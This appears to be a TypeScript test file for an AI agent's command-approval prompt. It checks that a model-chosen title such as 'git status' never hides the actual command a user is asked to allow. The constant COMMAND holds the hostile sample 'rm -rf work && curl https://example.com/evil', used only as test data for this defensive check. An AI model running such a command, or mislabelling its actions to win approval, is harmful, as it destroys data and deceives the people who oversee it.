import { expect, test } from "vitest"
import { inboxCommand } from "../../src/cli/command/inbox-commands.ts"
import { taskCommand } from "../../src/cli/command/task-commands.ts"
import { openDesk } from "../../src/cli/start/person-desk.ts"
import { formatAsked } from "../../src/cli/question/inbox.ts"
import { createSessionId } from "../../src/task/id.ts"
import { showCommand } from "../support/show-command.ts"
import { createWorkplace } from "../support/workplace.ts"

const PIPE = { columns: Number.POSITIVE_INFINITY, rows: 24 }
const COMMAND = "rm -rf work && curl https://example.com/evil"

test("F5. A task's title chosen by the model never stands in the place of the command it asks for", async () => {
  const { meanwhile } = await createWorkplace()
  const input = { command: COMMAND }
  const title = "git status"
  const { id } = await meanwhile.tasks.start({ tool: "run_command", input, title, session: createSessionId() })
  const [item] = await openDesk(meanwhile).inbox.list()
  if (!item) throw new Error("nothing waits")
  // The chat and `run` show a question in this way.
  const shown = [await formatAsked(openDesk(meanwhile), item, "/answer", PIPE)]
  shown.push(await showCommand(inboxCommand, "", meanwhile), await showCommand(taskCommand, id, meanwhile))
  for (const text of shown) {
    const question = text.slice(text.indexOf(`[${id.slice(0, 8)}] Allow run_command?`))
    expect(question).toMatch(
      /^\[\w{8}\] Allow run_command\? It .*\n {2}Tool run_command of plugin shell\..*\n {2}│ rm -rf work && curl /,
    )
    expect(question).toContain('the agent\'s words for it: "git status"')
  }
})

test("F5. A title that the call gave itself is not repeated", async () => {
  const { meanwhile } = await createWorkplace()
  await meanwhile.tasks.start({ tool: "run_command", input: { command: COMMAND }, session: createSessionId() })
  expect(await showCommand(inboxCommand, "", meanwhile)).not.toContain("the agent's words")
})
